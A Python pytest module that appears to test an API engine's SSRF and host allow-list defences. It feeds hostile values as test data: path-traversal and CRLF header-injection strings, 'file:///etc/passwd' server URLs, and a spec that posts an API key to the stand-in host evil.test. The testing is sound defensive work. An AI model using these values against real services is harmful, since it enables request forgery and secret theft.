"""Requests go where the spec, the operator and the caller say, and nowhere else (RELIABILITY A7)."""

from __future__ import annotations

import json
import random
from typing import Any
from urllib.parse import unquote, urlsplit

import httpx
import pytest

import engine
from engine.errors import ConfigError, Error
from tests.security.strangers import ANSWER, BARE, CHAT, ELSEWHERE, HEAD, HOST, client, leaks, local, stranger


def spec(post: str = "/x", more: str = "", base: str | None = None) -> str:
    text = f"{HEAD}{more}chat:\n  post: {json.dumps(post)}\n  body: {{a: b}}\n{BARE}"
    return text.replace(f"https://{HOST}/v1", json.dumps(base)) if base else text


def went(source: Any, target: str = "stranger/m", **options: Any) -> list[str]:
    """The URLs that were asked; a typed error is fine, anything else is not."""
    made, seen = client(source, **options)
    try:
        made.call("chat", target, messages=[{"role": "user", "content": "hi"}])
    except Error as error:
        assert error.kind in ("config", "protocol", "unsupported", "invalid_request"), error
        assert not leaks(str(error))
    return [str(r.url) for r in seen]


# --- the host -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ELSEWHERE)
@pytest.mark.parametrize("door", ["remote", "local"])
def test_a7_a_url_of_a_spec_stays_on_its_host(url: str, door: str) -> None:
    text = spec(url)
    for asked in went(stranger(text) if door == "remote" else local(text)):
        parts = urlsplit(asked)
        local_http = door == "local" and parts.scheme == "http" and parts.hostname in ("127.0.0.1", "localhost", "::1")
        assert (parts.scheme, parts.hostname, parts.port) == ("https", HOST, None) or local_http, asked
        assert parts.hostname == HOST


@pytest.mark.parametrize("url", [f"https://{HOST}/x", f"https://{HOST.upper()}/x", f"https://{HOST}./x", f"https://{HOST}:443/x"])
def test_a7_its_own_host_in_every_spelling(url: str) -> None:
    assert len(went(stranger(spec(url)))) == 1


@pytest.mark.parametrize("base", [u for u in ELSEWHERE if "\\" not in u])
def test_a7_a_stranger_reaches_the_hosts_his_caller_allows(base: str) -> None:
    """Whatever base_url and `hosts` a remote spec gives itself."""
    text = spec("/x", 'hosts: ["*.test", "*", "evil.test", "*.evil.test", "127.0.0.1", "localhost:80"]\n', base=base)
    for asked in went(stranger(text)):
        parts = urlsplit(asked)
        assert (parts.scheme, parts.hostname) == ("https", HOST) and parts.port in (None, 443), asked


@pytest.mark.parametrize(
    ("hosts", "reached"),
    [
        ((), False),
        ((HOST,), True),
        ((HOST.upper(),), True),
        (("*.stranger.test",), True),
        (("*.test",), True),
        (("stranger.test",), False),
        (("api.stranger",), False),
        ((f"{HOST}:8443",), False),
        ((f"{HOST}:443",), True),
        (("*",), False),
        (("",), False),
        ((f"https://{HOST}",), False),
        (("evil.test", HOST), True),
    ],
)
def test_a7_the_callers_allow_list(hosts: tuple[str, ...], reached: bool) -> None:
    assert bool(went(stranger(spec(), hosts=hosts))) is reached
    stream = HEAD + CHAT
    made, seen = client(stranger(stream, hosts=hosts))
    try:
        made.chat.stream("stranger/m", "hi").finish()
    except Error:
        pass
    assert bool(seen) is reached


def test_a7_the_allow_list_holds_for_token_calls_too() -> None:
    text = (
        f"name: S\nbase_url: https://{HOST}/v1\nhosts: [evil.test]\nsecrets: {{api_key: S_KEY}}\n"
        'auth: {tokens: {t: {post: "https://evil.test/t", form: {k: "{{ api_key }}"}, value: t}}, bearer: "{{ t }}"}\n' + CHAT
    )
    made, seen = client(stranger(text))
    with pytest.raises(Error, match="allow"):
        made.chat("stranger/m", "hi")
    assert not seen
    made, seen = client(stranger(text, hosts=[HOST, "evil.test"]), reply=lambda r: httpx.Response(200, json={"t": "tok", **ANSWER}))
    made.chat("stranger/m", "hi")
    assert [r.url.host for r in seen] == ["evil.test", HOST]


@pytest.mark.parametrize("settings", [{"base_url": "https://evil.test"}, {"server": "https://evil.test"}])
def test_a7_no_setting_moves_a_stranger(settings: dict[str, str]) -> None:
    for text in (
        HEAD + CHAT,
        HEAD.replace(f"https://{HOST}/v1", '"{{ server }}"') + "variables: {server: {format: url}}\n" + CHAT,
        HEAD.replace(f"https://{HOST}/v1", "{env: X, default: 'https://evil.test'}") + CHAT,
    ):
        assert not [u for u in went(stranger(text), settings=settings) if HOST not in u]


# --- variables in hosts -------------------------------------------------------------------------------------------------

LABELS = ["evil.test/", "evil.test#", "evil.test?", "evil.test\\", "x@evil.test/", "a.b", "a/b", "..", ".", "a:1", "127.0.0.1:1/"]
LABELS += ["é", "a\u200bb", "a b", "a%2eb", "%2e", "[::1]/", "a\tb", "a\nb", "x" * 64, "{{ api_key }}", "a_b.c", "-", "a" * 5000]


@pytest.mark.parametrize("value", LABELS)
@pytest.mark.parametrize("limit", ["{about: x}", '{pattern: ".*"}', '{pattern: "[!-~]+"}', '{pattern: "[^ ]+"}'])
def test_a7_a_variable_in_a_host_is_one_label(value: str, limit: str) -> None:
    """Whatever pattern its spec gives it, or none at all."""
    text = spec("/x", f"variables: {{region: {limit}}}\n", base="https://{{ region }}.stranger.test/v1")
    for asked in went(local(text), settings={"region": value}):
        host = urlsplit(asked).hostname or ""
        assert host.endswith(".stranger.test") and host.count(".") == 2, asked


@pytest.mark.parametrize("value", LABELS)
def test_a7_by_default_environment_and_operation_too(value: str, monkeypatch: pytest.MonkeyPatch) -> None:
    if "\x00" not in value:
        monkeypatch.setenv("STRANGER_REGION", value)
    for more in ("variables: {region: {env: STRANGER_REGION}}\n", f"variables: {{region: {{default: {json.dumps(value)}}}}}\n"):
        text = spec("/x", more).replace("chat:\n", 'chat:\n  base_url: "https://{{ region }}.stranger.test"\n')
        for asked in went(local(text)):
            assert (urlsplit(asked).hostname or "").endswith(".stranger.test"), asked


@pytest.mark.parametrize(
    "base", ["{{ server }}/v1", "{{ 'https://' ~ server }}/v1", "{{ server if server else 'https://a.test' }}"]
)
def test_a7_only_a_setting_that_is_a_url_may_be_a_whole_server(base: str) -> None:
    made, seen = client(local(spec("/x", "variables: {server: {about: x}}\n", base=base)), settings={"server": "https://evil.test"})
    with pytest.raises(ConfigError):
        made.chat("stranger/m", "hi")
    assert not seen


BAD_SERVERS = [
    "ftp://a.test",
    "file:///etc/passwd",
    "//a.test",
    "a.test",
    "https://u:p@a.test",
    "https://a.test?x=1",
    "https://a.test#x",
]
BAD_SERVERS += [
    "https://a.test\\@b.test",
    "https://a.test:99999",
    "https://a.test:0",
    "https://a.te\tst",
    "https://",
    "javascript:x",
    "https://é.test",
]
BAD_SERVERS += [
    "https://a.test/../b",
    "https://a.test/%2e%2e/b",
    "https://[::1",
    "https://a.test\r\nX: y",
    "https://{{ api_key }}.a.test",
]


@pytest.mark.parametrize("server", BAD_SERVERS)
def test_a7_a_callers_server_is_scheme_host_and_path(server: str) -> None:
    own = local(spec("/x", "variables: {server: {format: url}}\n", base="{{ server }}/v1"))
    assert went(own, settings={"server": server}) == []
    assert went(local(HEAD + CHAT), settings={"base_url": server}) == []


@pytest.mark.parametrize("server", ["https://a.test", "http://a.test:8080/p", "http://127.0.0.1:1", "https://[2001:db8::1]:8443/x"])
def test_a7_a_callers_server_is_his_word(server: str) -> None:
    own = local(spec("/x", "variables: {server: {format: url}}\n", base="{{ server }}/v1"))
    assert went(own, settings={"server": server}) == [f"{server}/v1/x"]


# --- paths --------------------------------------------------------------------------------------------------------------

NAMES = [
    "..",
    ".",
    "../x",
    "a/../b",
    "a/..",
    "./a",
    "%2e%2e",
    "%2e%2e/",
    "..%2f",
    "..%5c",
    "..;",
    "..;/x",
    "a#b",
    "a?b=c",
    "a\\b",
    "..\\x",
]
NAMES += [
    "a\nb",
    "a\r\nHost: evil.test",
    "a\x00b",
    "//evil.test",
    "@evil.test",
    "https://evil.test",
    ":80",
    "é",
    "．．",
    "‥",
    "{{ api_key }}",
]
NAMES += [
    "a&key=1",
    "a;b",
    "a b",
    "\t",
    "a\x7fb",
    "\u2028",
    "a%",
    "%",
    "%zz",
    "%0a",
    "a" * 3000,
    "{%x%}",
    "$for",
    "*",
    "[a]",
    "|",
    "\ud800",
]
PATHS = [
    "/v1/{{ model }}",
    "/v1/{{ model }}:go",
    "/v1/{{ model }}/go",
    "/v1/{{ model | quote }}/go",
    "/{{ model }}",
    "/x?m={{ model }}",
]


@pytest.mark.parametrize("path", PATHS)
def test_a7_whatever_a_model_is_called_the_path_stays(path: str) -> None:
    made, seen = client(local(spec(path)))
    for name in NAMES:
        seen.clear()
        try:
            made.call("chat", f"stranger/{name}", messages=[{"role": "user", "content": "hi"}])
        except Error as error:
            assert error.kind in ("config", "unsupported", "not_found"), (name, error)
            assert not seen
            continue
        url = urlsplit(str(seen[0].url))
        assert (url.scheme, url.netloc, url.fragment) == ("https", HOST, ""), (name, url)
        assert url.path.startswith("/v1"), (name, url)
        decoded = url.path
        for _ in range(2):
            segments = decoded.replace("\\", "/").split("/")
            assert not {"..", "."} & {s.partition(";")[0] for s in segments} or decoded is not url.path, (name, url.path)
            decoded = unquote(decoded)
        assert not any(c < " " or c == "\x7f" for c in unquote(url.path)), (name, url.path)
        if "?m=" not in path:
            assert not url.query, (name, url)


def test_a7_random_models_variables_and_servers_never_leave_the_host() -> None:
    """2,000 random names out of dangerous pieces, in path, query, base path and host."""
    pick = random.Random(7)
    pieces = [
        "..",
        ".",
        "/",
        "\\",
        "%2e",
        "%2f",
        "#",
        "?",
        "@",
        ":",
        ";",
        "evil.test",
        "a",
        "é",
        "\n",
        "\r",
        "\t",
        "\x00",
        " ",
        "//",
        "[",
        "]",
        "{{",
        "}}",
    ]
    text = spec("/p/{{ model }}?q={{ project }}", "variables: {region: {about: x}, project: {about: x}}\n")
    text = text.replace(f"https://{HOST}/v1", '"https://{{ region }}.stranger.test/{{ project }}/v1"')
    catalog = engine.Catalog([local(text)])
    sent = 0
    for _ in range(2000):
        name, region, project = ("".join(pick.choices(pieces, k=pick.randrange(1, 5))) for _ in range(3))
        region = region if pick.random() < 0.3 else "api"
        try:
            made = catalog.operation(f"stranger/{name}", settings={"region": region, "project": project})
            url = made.render(messages=[{"role": "user", "content": "hi"}]).url
        except Error:
            continue
        sent += 1
        parts = urlsplit(url)
        assert parts.scheme == "https" and parts.hostname is not None and parts.hostname.endswith(".stranger.test"), (
            name,
            region,
            url,
        )
        assert parts.port is None and "@" not in parts.netloc and "#" not in url and url.isprintable() and url.isascii()
        assert "/v1/p/" in parts.path
        assert ".." not in [s.partition(";")[0] for s in unquote(parts.path).replace("\\", "/").split("/")]
    assert sent > 100
